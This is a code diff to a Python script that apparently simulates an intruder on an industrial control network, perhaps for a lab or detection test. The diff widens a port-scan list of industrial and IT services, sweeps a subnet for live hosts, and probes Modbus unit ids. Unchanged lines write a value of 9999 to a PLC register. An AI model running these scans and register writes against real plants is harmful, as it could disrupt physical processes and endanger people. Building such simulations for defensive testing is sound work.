@@ -271,7 +271,8 @@ def tolerate(action, *arguments):
 
 # --- the laptop --------------------------------------------------------------------------------
 
-PORTS = (21, 22, 23, 80, 102, 443, 502, 4840, 29999, 30001, 30002, 30004, 44818, 48898)
+PORTS = (21, 22, 23, 25, 53, 80, 102, 111, 135, 139, 443, 445, 502, 1217, 2404, 3389, 4840, 5900,
+         8080, 8443, 11740, 20000, 29999, 30001, 30002, 30004, 44818, 48898)
 
 
 def knock(address, port):
@@ -282,7 +283,7 @@ def knock(address, port):
 
 def intruder():
     at(INTRUSION)
-    for last in range(1, 61, 3):  # which addresses live
+    for last in range(1, 61):  # which addresses live
         threading.Thread(target=knock, args=(f"10.20.7.{last}", 80), daemon=True).start()
         time.sleep(0.02)
     at(INTRUSION + 2)
@@ -314,7 +315,7 @@ def attack_modbus():
     client.write_register(110, 9999, device_id=1)
     client.close()
     with socket.create_connection((ip("plc"), 502), timeout=1) as peer:
-        for unit in range(2, 12):  # which unit ids live
+        for unit in range(2, 20):  # which unit ids live
             peer.sendall(struct.pack(">HHHBBHH", unit, 0, 6, unit, 3, 0, 1))
             peer.recv(64)
 
